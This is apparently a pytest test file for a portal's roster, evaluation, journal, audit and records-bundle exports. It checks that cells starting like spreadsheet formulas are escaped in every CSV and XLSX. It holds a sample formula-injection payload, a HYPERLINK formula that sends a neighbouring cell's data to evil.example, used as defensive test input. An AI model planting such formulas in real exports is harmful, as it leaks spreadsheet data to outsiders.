"""One formula-escaping rule for every export: a hostile name or text reaches no
spreadsheet as a formula, through any CSV, XLSX or the Records ZIP."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.attendance.exports import roster_csv, roster_xlsx
from portal.attendance.roster import offering_roster
from portal.evaluation.render import responses_csv, responses_xlsx
from portal.evaluation.responses import evaluation_responses
from portal.learning.journal import journal_csv, journal_entries, journal_entry_save
from portal.records import bundle
from portal.records.audit_log import audit_csv, audit_search
from portal.tabular import FORMULA_STARTS, cell_safe, csv_bytes, xlsx_bytes
from tests.factories_evaluation import submitted_make
from tests.factories_records import offering_with_everything

HOSTILE = '=HYPERLINK("http://evil.example/?"&C2,"Open")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_quoted_and_others_are_kept(start):
    assert cell_safe(f"{start}1+1") == f"'{start}1+1"
    assert cell_safe("Ana López") == "Ana López"
    assert cell_safe(42) == 42 and cell_safe(None) is None


def test_csv_and_xlsx_carry_the_same_quoted_text():
    rows = [("Ana", "-2"), (HOSTILE, 3)]
    read = list(csv.reader(io.StringIO(csv_bytes(("name", "n"), rows).decode("utf-8-sig"))))
    assert read == [["name", "n"], ["Ana", "'-2"], ["'" + HOSTILE, "3"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(("name", "n"), rows))).active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells == [["name", "n"], ["Ana", "'-2"], ["'" + HOSTILE, 3]]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return [c.value for row in sheet.iter_rows() for c in row]


def _no_formula(name: str, cells) -> None:
    unsafe = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert unsafe == [], name


def test_a_hostile_name_is_quoted_in_every_export(session, app_env):
    offering, admin, ana, _ = offering_with_everything(session)
    for _ in range(2):  # responses are exported only from groups of at least three
        submitted_make(session, offering, comments=HOSTILE)
    ana.full_name = HOSTILE
    journal_entry_save(
        session=session,
        user_id=ana.id,
        entry_date=date(2023, 5, 20),
        partner_text=HOSTILE,
        self_text="@SUM(1)",
        today=date(2023, 5, 20),
    )
    session.commit()
    roster = offering_roster(session, admin.id, offering.id)
    responses = evaluation_responses(session, offering.id, admin.id)
    exports = {
        "roster.csv": _csv_cells(roster_csv(roster)),
        "roster.xlsx": _xlsx_cells(roster_xlsx(roster)),
        "responses.csv": _csv_cells(responses_csv(responses)),
        "responses.xlsx": _xlsx_cells(responses_xlsx(responses)),
        "journal.csv": _csv_cells(journal_csv(journal_entries(session, ana.id))),
        "audit.csv": _csv_cells(audit_csv(audit_search(session))),
    }
    data = bundle.records_bundle(session=session, actor_id=admin.id, offering_id=offering.id)
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.endswith(".csv"):
            exports[f"ZIP {name}"] = _csv_cells(archive.read(name))
    for name, cells in exports.items():
        _no_formula(name, cells)
    assert "'" + HOSTILE in exports["roster.csv"] + exports["ZIP roster.csv"]
    assert "'" + HOSTILE in exports["ZIP payments-and-refunds.csv"]
    assert "'" + HOSTILE in exports["journal.csv"]
    assert "'" + HOSTILE in exports["responses.csv"] + exports["ZIP evaluation-responses.csv"]
